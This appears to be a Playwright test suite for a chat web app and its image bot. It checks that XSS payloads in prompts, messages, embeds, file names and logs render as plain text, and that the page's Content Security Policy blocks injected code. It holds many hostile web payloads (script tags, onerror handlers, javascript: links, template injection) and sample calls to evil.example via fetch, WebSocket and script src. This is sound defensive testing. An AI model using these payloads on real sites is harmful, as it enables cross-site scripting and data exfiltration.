"""Words that would be markup, scripts or links that run: in prompts to the real bot, and in messages of every kind.

Every test here also holds what all hold: no dialog, no error, no request elsewhere.
"""

import asyncio
import json
import re
from pathlib import Path

import pytest
from playwright.async_api import Locator, expect

from tests.browser.conftest import Comes
from tests.browser.theatre import Demo, Show
from tests.browser.visitor import CAT, Visitor
from tests.sandbox.page.parade import TRICK

PROMPTS = (
    '<script>document.title = "owned"</script>',
    "<img src=x onerror=\"document.title='owned'\"> <svg/onload=alert(1)>",
    '"><iframe srcdoc="<script>parent.document.title=\'owned\'</script>"></iframe>',
    "[click me](javascript:document.title='owned') <javascript:alert(1)>",
    '[data](data:text/html,<script>alert(1)</script>) <https://127.0.0.1/"onmouseover="alert(1)>',
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} `${alert(1)}`",
    "</textarea></pre></code></li><style>*{display:none}</style><base href=//evil.example>",
    "||<b>hidden</b>|| **<i>bold</i>** ```html\n<script>alert(1)</script>\n```",
    "@everyone @here <@&1> <@1> <#1> <t:99999999999999:R> <t:-1:Z> </admin quota grant:1>",
)
EXECUTABLE = "script, iframe, object, embed, base, style, link, meta, form[action], svg, [onerror], [onload], [onclick]"
KINDS = """() => {
    const kinds = new Set(), links = new Set(), handlers = new Set();
    for (const each of document.querySelectorAll("[role=log] *")) {
        kinds.add(each.localName);
        if (each.hasAttribute("href")) links.add(new URL(each.getAttribute("href"), location.href).protocol);
        if (each.hasAttribute("src")) links.add("src " + new URL(each.src).origin);
        for (const name of each.getAttributeNames()) if (name.startsWith("on")) handlers.add(name);
    }
    return {kinds: [...kinds], links: [...links], handlers: [...handlers]};
}"""
OURS = re.compile(
    "a|b|blockquote|br|button|code|dd|details|dl|dt|div|em|fieldset|hr|img|input|label|legend|li|ol|option|p|pre|s|"
    "select|small|span|strong|summary|time|u|ul"
)


async def holds_nothing_that_runs(visitor: Visitor, page_title: str) -> None:
    found = await visitor.page.evaluate(KINDS)
    assert [each for each in found["kinds"] if not OURS.fullmatch(each)] == []
    assert found["handlers"] == []
    assert {each for each in found["links"] if not each.startswith("src ")} <= {"https:", "http:"}
    assert await visitor.page.locator("[role=log]").locator(EXECUTABLE).count() == 0
    assert await visitor.page.title() == page_title


async def test_prompts_stand_there_as_they_were_typed_and_do_nothing(comes: Comes) -> None:
    ada, ben = await comes("Ada"), await comes("Ben")
    prompts = [re.sub(r"\s*\n\s*", " ", each) for each in PROMPTS]
    for prompt in prompts:
        await ada.slash("imagine", {"prompt": prompt})

    for prompt in prompts:
        picture = ben.page.get_by_role("img", name=prompt, exact=True)
        await expect(picture).to_have_count(1)
        result = ben.messages.filter(has=picture)
        said = re.sub(r"[^A-Za-z0-9]+", "", await result.locator(".text").first.text_content() or "")
        assert re.sub(r"[^A-Za-z0-9]+", "", prompt)[:20] in said, "the bot quotes what was asked for"
        await result.hover()
        await result.get_by_role("button", name="Alt text").click()
        assert await result.locator(".alt-words").text_content() == prompt
    for visitor in (ada, ben):
        await holds_nothing_that_runs(visitor, "#general")


async def test_what_people_say_stands_there_and_does_nothing(comes: Comes) -> None:
    ada, ben = await comes("Ada", "no-uploads"), await comes("Ben", "no-uploads")
    for each in PROMPTS:
        await ada.send(each)
        await expect(ada.writing).to_have_value("")

    await expect(ben.messages.last).to_contain_text("@everyone")
    await expect(ben.messages.filter(has_text="<script>document.title")).not_to_have_count(0)
    for link in await ben.page.get_by_role("log").get_by_role("link").all():
        assert re.match("https?://", await link.get_attribute("href") or "")
    await holds_nothing_that_runs(ben, "#no-uploads")


async def test_hostile_words_of_a_bot_do_nothing(comes_to_the_show: Comes) -> None:
    ada = await comes_to_the_show()

    await expect(ada.message("owned")).to_contain_text("[click](javascript:document.title='owned')")
    await expect(ada.message("owned").get_by_role("link")).to_have_attribute(
        "href", "https://example.com/%22onmouseover=%22x"
    )
    await holds_nothing_that_runs(ada, "#general")


@pytest.mark.parametrize("width_px", [1180, 360])
async def test_hostile_words_in_every_place_for_words_do_nothing_and_fit(
    comes_to_the_show: Comes, show: Show, width_px: int
) -> None:
    """Of embeds, files, buttons, selects, forms and suggestions: 6,000 of them in one embed, and some turn round."""
    ada = await comes_to_the_show(viewport={"width": width_px, "height": 720})
    await show.parade.tricks()
    message = await ada.pinned(ada.messages.filter(has=ada.page.locator(".embed")).filter(has_text="tricks yyyy").last)

    await expect(message.locator(".embed-title")).to_contain_text("<img src=x onerror=alert(1)>")
    await expect(message.locator(".embed dt")).to_have_count(3)
    await expect(message.get_by_role("link", name=re.compile(r"z\.exe$"))).to_have_text(re.compile("^[A-Za-z0-9._-]+$"))
    await message.locator("summary").click()
    await expect(message.get_by_role("checkbox", name=re.compile("onerror"))).to_have_count(3)
    await expect(message).not_to_have_class(re.compile("calls-me"))
    await expect(ada.page.locator("#notes")).to_be_empty()
    await sticks_out_nowhere(message)
    await holds_nothing_that_runs(ada, "#general")

    await message.get_by_role("button", name=TRICK, exact=True).click()
    form = ada.page.get_by_role("dialog", name=TRICK, exact=True)
    await expect(form.get_by_role("heading")).to_have_text(TRICK)
    await form.get_by_role("textbox").fill("".join(PROMPTS) + "x" * 1_000)
    await sticks_out_nowhere(form)
    assert await form.locator(EXECUTABLE).count() == 0
    await form.get_by_role("button", name="Submit").click()
    await expect(form).to_have_count(0)
    await expect(ada.message("document.title", "tricked")).to_contain_text("Only you can see this")
    await sticks_out_nowhere(ada.message("document.title", "tricked"))
    await holds_nothing_that_runs(ada, "#general")

    await ada.begin("paint")
    await ada.fill("model", "a")
    suggested = ada.page.get_by_role("listbox", name="Values of model").get_by_role("option").last
    await expect(suggested).to_have_text(TRICK * 2)
    await sticks_out_nowhere(suggested)
    await suggested.click()
    await expect(ada.option("model")).to_have_value(TRICK * 2)


async def test_a_hostile_name_of_a_file_is_a_name_until_it_is_sent_and_clean_after_it(comes: Comes) -> None:
    ada, ben = await comes("Ada", viewport={"width": 360, "height": 720}), await comes("Ben")
    name = f"{TRICK}{'z' * 100}.png"
    await ada.writing.focus()
    await ada.paste({**CAT, "name": name})
    files = ada.page.get_by_role("list", name="Files to send")
    remove = files.get_by_role("button", name=f"Remove {name}")

    await expect(files).to_contain_text(name)
    words, button = await files.get_by_text(name).bounding_box(), await remove.bounding_box()
    assert words is not None
    assert button is not None
    assert words["x"] + words["width"] <= button["x"], "what turns words round turns nothing beside them"
    await sticks_out_nowhere(files)
    assert await files.locator(EXECUTABLE).count() == 0
    await ada.send("a file with a name")

    picture = ben.message("a file with a name").get_by_role("img")
    await expect(picture).to_have_attribute("alt", re.compile(r"^img_srcx_onerroralert1everyonegnpz+\.png$"))


async def test_hostile_lines_of_the_bots_log_are_words_in_the_drawer(comes: Comes, demo: Demo) -> None:
    ada = await comes("Ada", "lounge")
    behind = await ada.look_behind()
    await ada.slash("imagine", {"prompt": "a fox in the log"})
    await expect(behind.locator(".behind-steps strong").filter(has_text="delivered")).to_have_count(1)
    asked = list(demo.discord.interactions.by_token.values())[-1].id
    words = re.sub(r"\s*\n\s*", " ", " ".join([*PROMPTS, TRICK]))
    line = f"2026-01-01 00:00:00,000 WARNING bot.hostile {words} {'x' * 6_000} job={asked}\n"
    await asyncio.to_thread(_append, demo.stage.log_file, line)

    await behind.get_by_text("Its lines in the bot’s log").click()
    shown = behind.locator(".behind-log li").filter(has_text="<script>document.title")
    await expect(shown).to_contain_text(TRICK)
    await sticks_out_nowhere(shown)
    assert await behind.locator(EXECUTABLE).count() == 0
    assert await ada.page.title() == "#lounge"


async def sticks_out_nowhere(element: Locator) -> None:
    """Nothing in it lies beyond the window's sides; what is cut off on purpose ends in «…»."""
    outside = await element.evaluate(
        """element => {
            const range = document.createRange();
            const words = document.createTreeWalker(element, NodeFilter.SHOW_TEXT);
            const boxes = [element.getBoundingClientRect()];
            while (words.nextNode()) {
                const parent = words.currentNode.parentElement;
                if (parent.closest("option, .context, .attached-name, .visually-hidden, .behind-unseen")) continue;
                range.selectNodeContents(words.currentNode);
                boxes.push(...range.getClientRects());
            }
            return boxes.filter((box) => box.width > 0 && (box.left < 0 || box.right > innerWidth)).length;
        }"""
    )
    assert outside == 0


def _append(file: Path, line: str) -> None:
    with file.open("a", encoding="utf-8") as log:
        log.write(line)


POLICY = "Content Security Policy"
LIMIT_S = 20.0


def added(element: str, attribute: str, value: str) -> str:
    """A script that puts an element into the page, and presses it where that does something."""
    return f"""() => {{
        const added = document.createElement("{element}");
        added.{attribute} = {json.dumps(value)};
        document.head.prepend(added);
        added.click();
    }}"""


INJECTED = {
    "an inline script": added("script", "textContent", "window.owned = true"),
    "a handler": added("div", "innerHTML", '<img src="/static/easel.svg" onload="window.owned = true">'),
    "a link that runs": added("a", "href", "javascript:window.owned = true"),
    "words made code": "() => setTimeout('window.owned = true')",
    "a script from elsewhere": added("script", "src", "https://evil.example/x.js"),
    "a picture from elsewhere": "() => { new Image().src = 'https://evil.example/x.png'; }",
    "a call elsewhere": "() => fetch('https://evil.example/').catch(() => null)",
    "a socket elsewhere": "() => { try { new WebSocket('wss://evil.example/'); } catch {} }",
    "a frame": added("iframe", "srcdoc", "<script>parent.owned = true</script>"),
    "a style": added("style", "textContent", "main { display: none }"),
    "another base": added("base", "href", "https://evil.example/"),
}


async def test_had_something_come_in_after_all_the_policy_would_stop_it(comes_to_the_show: Comes) -> None:
    """The second wall: the page is made to let it in, and still nothing runs and nothing leaves."""
    ada = await comes_to_the_show()
    refused: dict[str, str | None] = {}
    ada.page.on("requestfailed", lambda request: refused.update({request.url: request.failure}))

    for what, script in INJECTED.items():
        with ada.expecting(f"{POLICY}|evil.example"):
            before = len(ada.wrong)
            await ada.page.evaluate(script)
            async with asyncio.timeout(LIMIT_S):
                while not any(POLICY in each for each in ada.wrong[before:]):
                    await ada.page.wait_for_timeout(20)
            elsewhere = [each.split()[-1] for each in ada.wrong[before:] if POLICY not in each]
        assert {refused.get(each) for each in elsewhere} <= {"csp"}, what
        assert await ada.page.evaluate("window.owned") is None, what

    assert (await ada.page.evaluate("document.baseURI")).startswith("http://127.0.0.1")
    await expect(ada.page.get_by_role("main")).to_be_visible()
